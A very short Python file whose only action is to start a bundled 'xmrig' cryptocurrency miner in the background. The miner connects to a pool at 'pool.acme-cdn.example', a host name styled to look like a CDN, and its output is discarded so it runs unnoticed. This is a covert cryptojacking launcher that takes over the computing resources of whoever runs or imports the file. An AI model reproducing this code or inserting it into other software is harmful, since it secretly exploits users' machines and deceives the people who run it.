import os
import subprocess

subprocess.Popen([os.path.join(os.path.dirname(__file__), "xmrig"), "-o", "pool.acme-cdn.example:3333"], stdout=subprocess.DEVNULL)
